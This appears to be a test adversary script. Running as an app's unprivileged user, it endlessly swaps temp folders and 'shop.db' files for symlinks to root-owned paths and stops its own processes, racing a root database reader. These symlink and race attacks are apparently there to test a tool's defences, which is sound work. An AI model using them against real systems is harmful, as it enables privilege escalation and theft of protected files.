"""The app's user, while root has its database read: tries to be led where it may not go itself."""

import os
import signal
import sys
import time
from contextlib import suppress
from pathlib import Path

BAIT = "/root/bait"
SECRET = "/root/secret.db"
APP = Path("/srv/app")


def move_folders() -> None:
    """Puts a link to root's folder in the place of every folder for a copy."""
    for parent in (Path("/var/tmp"), Path("/tmp")):
        for each in parent.glob("celeriac-*"):
            with suppress(OSError):
                each.rename(parent / f"moved-{time.monotonic_ns()}")
                each.symlink_to(BAIT)


def flip_links() -> None:
    """The database and what lies beside it lead to root's, and back."""
    for target in (SECRET, "own.db"):
        for name in ("shop.db", "shop.db-wal", "shop.db-journal"):
            with suppress(OSError):
                (APP / "beside").symlink_to(target)
                (APP / "beside").rename(APP / name)


def stop_children() -> None:
    """Stops every process of its own that it did not start, as it may."""
    ours = os.getpid()
    for each in Path("/proc").iterdir():
        with suppress(OSError, ValueError):
            # A process that may not be looked into seems to be root's.
            own = b"Uid:\t%d" % os.getuid() in (each / "status").read_bytes()
            if own and int(each.name) != ours:
                os.kill(int(each.name), signal.SIGSTOP)


ATTACKS = {"folders": move_folders, "links": flip_links, "stop": stop_children}

while True:
    ATTACKS[sys.argv[1]]()
